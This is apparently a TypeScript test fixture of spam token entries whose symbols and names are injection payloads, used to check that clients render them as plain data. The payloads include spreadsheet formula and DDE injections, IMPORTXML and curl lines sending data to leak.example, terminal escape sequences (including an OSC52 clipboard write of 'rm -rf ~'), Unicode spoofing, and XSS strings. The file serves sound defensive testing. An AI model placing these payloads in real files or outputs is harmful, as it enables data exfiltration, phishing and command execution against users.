// Unsolicited tokens with malicious names, such as spreadsheet formulas and terminal escape sequences. Clients of the service
// must treat these names as plain data. Each entry has a symbol, a name and a price. A price of 0 means no price.

const ESC = '\u001b';
const BEL = '\u0007';

export const SPAM: readonly (readonly [symbol: string, name: string, price: number])[] = [
  [
    '=HYPERLINK("http://claim.example","Claim")',
    '=HYPERLINK("http://claim.example/?x="&A1,"Claim 500 USDC")',
    0,
  ],
  ['+cmd', "+cmd|' /C calc'!A0", 0],
  ['@SUM', '@SUM(1+1)*cmd', 0.0000000011],
  ['-2+3', '-2+3+cmd|"/C notepad"!A1', 0],
  ['=1+1', '=IMPORTXML(CONCAT("http://leak.example/?",CONCATENATE(A2:E2)),"//a")', 0],
  [`${ESC}[31mRED${ESC}[0m`, `${ESC}[2J${ESC}[HYour wallet is locked`, 0],
  ['OSC8', `${ESC}]8;;http://phish.example${BEL}Official airdrop${ESC}]8;;${BEL}`, 0.00000000000042],
  ['OSC52', `${ESC}]52;c;cm0gLXJmIH4=${BEL}clipboard`, 0],
  ['C1\u009b31m', 'one-byte CSI \u009b2K and title \u009d0;owned\u009c', 0],
  ['\u202eCDSU', 'USD Coin \u202e(dekatS)\u202c\u2066\u2069', 0],
  ['UЅDС', 'USD Сoin\u200b\u200d\ufeff', 0.0001],
  ['TAB\tBED', 'Name\twith\ttabs', 0],
  ['LINE\nBREAK', 'First line\r\n=cmd on the second line', 0],
  ['QUOTE","', 'He said "free", then ""more""; \'really\'', 0],
  ['COMMA,SEMI;', 'a,b;c|d\\e', 0],
  ['NUL\u0000', 'before\u0000after\b\b\b\b\bAFTER', 0],
  ['<b>', '<script>alert("x")</script><img src=x onerror=alert(1)>', 0],
  ['$(id)', '`id` $(curl http://leak.example) %PATH% {{7*7}}', 0],
  ['LONG', `Visit claim.example ${'to receive your reward today, every day, '.repeat(24)}hurry`, 0],
  ['🎁💰', '👩‍👩‍👧‍👦 Z̸a̵l̷g̶o̴ 免费领取 مكافأة', 0.0000031],
  ['', ' ', 0],
];
